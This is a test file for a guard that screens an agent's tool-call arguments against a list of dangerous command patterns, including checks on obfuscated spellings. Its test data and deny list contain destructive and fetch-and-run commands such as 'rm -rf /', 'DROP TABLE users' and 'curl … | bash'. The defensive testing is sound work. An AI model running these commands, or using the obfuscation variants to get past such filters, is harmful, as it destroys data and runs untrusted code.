import { expect, test } from 'vitest';
import { checkRegex, decide, MAX_SCAN_CHARS, normalizeForMatch } from '../../src/policy/index.js';
import { call, compile, verdictOf } from './fixtures.js';

test.each([
  ['RM   -RF', 'rm -rf'],
  ['\t rm\n\r-rf \u00A0', 'rm -rf'],
  ['r"m" -r\'f\'', 'rm -rf'],
  ['r\\m -\\rf', 'rm -rf'],
  ['\u201Crm\u201D \u2018-rf\u2019', 'rm -rf'],
  ['r\u200Bm\u200C -\u200Drf\u2060\uFEFF', 'rm -rf'],
  ['r\u00ADm -rf', 'rm -rf'],
  ['\uFF32\uFF2D -\uFF52\uFF46', 'rm -rf'],
  ['DROP\u2003TABLE\u3000users', 'drop table users'],
  ['r\u0000m -rf', 'rm -rf'],
  ['', ''],
])('normalizeForMatch(%j) is %j', (input, expected) => {
  expect(normalizeForMatch(input)).toBe(expected);
});

test.each([
  ['rm\\s+-rf', '', true, 0],
  ['drop\\s+table', 'i', true, 0],
  ['a.*b', '', true, 1],
  ['\\s*x', '', true, 1],
  ['(?:ab){2,3}', '', true, 0],
  ['(a+)+$', '', false, undefined],
  ['(a|aa)*', '', false, undefined],
  ['(\\w+\\s?)*$', '', false, undefined],
  ['(a*)*b', '', false, undefined],
  ['(x+x+)+y', '', false, undefined],
  ['a++', '', false, undefined],
  ['(a)\\1', '', false, undefined],
  ['(?<=a)b', '', false, undefined],
  ['[', '', false, undefined],
  ['abc', 'v', false, undefined],
])('checkRegex(/%s/%s): safe %s, degree %s', (source, flags, safe, degree) => {
  const check = checkRegex(source, flags);
  expect(check.safe).toBe(safe);
  if (check.safe) expect(check.degree).toBe(degree);
});

const patterns = compile({
  allow: ['**'],
  approval: 'granular',
  dangerousPatterns: ['rm -rf', 'DROP TABLE', 'git push --force', '/curl\\s+\\S+\\s*\\|\\s*(ba)?sh/', '/chmod\\s+777/i'],
});

test.each([
  [{ cmd: 'ls -la' }, 'allow'],
  [{ cmd: 'rm -rf /' }, 'ask'],
  [{ cmd: 'rm -fr /' }, 'ask'], // short-flag order folded
  [{ cmd: 'rm -r -f /' }, 'ask'],
  [{ cmd: 'rm -rfv /' }, 'ask'],
  [{ cmd: 'git push --force-with-lease' }, 'ask'], // substring of the normalised text
  [{ cmd: 'curl https://x.sh | bash' }, 'ask'],
  [{ cmd: 'curl https://x.sh|sh' }, 'ask'],
  [{ cmd: 'CHMOD 777 /etc' }, 'ask'],
  [{ deep: { a: [{ b: { c: ['drop table users'] } }] } }, 'ask'],
  [{ 'DROP TABLE users': true }, 'ask'],
  [{ argv: ['rm', '-rf', '/'] }, 'ask'],
  [['git', 'push', '--force'], 'ask'],
  [{ n: 1, b: true, s: 'harmless' }, 'allow'],
  ['rm -rf /', 'ask'],
  [undefined, 'allow'],
  [null, 'allow'],
])('arguments %j → %s', (args, expected) => {
  expect(verdictOf(patterns, 'github/get_issue', args)).toBe(expected);
});

test('over the size cap the call is denied, never scanned in part', () => {
  const half = 'a'.repeat(MAX_SCAN_CHARS / 2);
  const decision = decide(patterns, call('github/get_issue', { a: half, b: half, c: 'x' }));
  expect(decision.verdict).toBe('deny');
  expect(decision.reasons.at(-1)).toMatchObject({ layer: 'approval', decision: 'deny', source: 'default' });
  expect(decision.reasons.at(-1)!.message).toContain('too large to scan');
  // exactly at the cap is still scanned
  expect(verdictOf(patterns, 'github/get_issue', ['a'.repeat(MAX_SCAN_CHARS - 6), 'rm -rf'])).toBe('ask');
});

test('keys count towards the size cap', () => {
  const args = Object.fromEntries(Array.from({ length: 1100 }, (_, i) => [`${i}`.padEnd(1000, 'k'), 1]));
  expect(verdictOf(patterns, 'github/get_issue', args)).toBe('deny');
});

test('a cyclic or very deep argument object is scanned without hanging or overflowing', () => {
  const cyclic: Record<string, unknown> = { a: 'ok' };
  cyclic.self = cyclic;
  expect(verdictOf(patterns, 'github/get_issue', cyclic)).toBe('allow');
  let deep: unknown = 'rm -rf /';
  for (let i = 0; i < 100_000; i++) deep = [deep];
  expect(verdictOf(patterns, 'github/get_issue', deep)).toBe('ask');
});

test('a regex that is not linear runs only within a work budget, then counts as found', () => {
  const compiled = compile({ allow: ['**'], approval: 'granular', dangerousPatterns: ['/a.*b/'] });
  expect(verdictOf(compiled, 'github/get_issue', { s: 'a then b' })).toBe('ask');
  expect(verdictOf(compiled, 'github/get_issue', { s: 'short text' })).toBe('allow');
  const started = performance.now();
  const decision = decide(compiled, call('github/get_issue', { s: 'a'.repeat(200_000) }));
  expect(performance.now() - started).toBeLessThan(500);
  expect(decision.verdict).toBe('ask');
  expect(decision.reasons.at(-1)!.message).toContain('too long to match the dangerous pattern "/a.*b/" safely');
});

test('regex patterns run on the raw text as well as the normalised text', () => {
  const compiled = compile({ allow: ['**'], approval: 'granular', dangerousPatterns: ['/"rm"/'] });
  expect(verdictOf(compiled, 'github/get_issue', { s: 'exec "rm"' })).toBe('ask');
});

test.each([
  ['/^rm\\b/', { a: 'harmless', b: 'rm x' }, 'ask'],
  ['/^rm\\b/', { a: 'harmless', b: 'x rm' }, 'allow'],
  ['/secret$/', { a: 'my secret', b: 'other' }, 'ask'],
  ['/secret$/', { a: 'secret sauce', b: 'other' }, 'allow'],
  ['/rm -rf/', { a: 'x rm', b: '-rf y' }, 'allow'],
  ['/rm\\s-rf/', { a: 'x rm', b: '-rf y' }, 'allow'],
  ['/[a-z]+ -rf/', { a: 'x RM', b: '-rf y' }, 'allow'],
  ['/DROP TABLE/', { a: 'drop table x' }, 'allow'], // regexes are case-sensitive unless written with i…
  ['/DROP TABLE/', { a: 'DROP TABLE x' }, 'ask'], // …and also run on the raw text
  ['/drop table/', { a: 'DROP  TABLE x' }, 'ask'], // the normalised text is lowercase
])('regex %s on texts %j → %s (texts are matched one by one, never across two)', (pattern, args, expected) => {
  expect(verdictOf(compile({ allow: ['**'], approval: 'granular', dangerousPatterns: [pattern] }), 'github/get_issue', args)).toBe(expected);
});
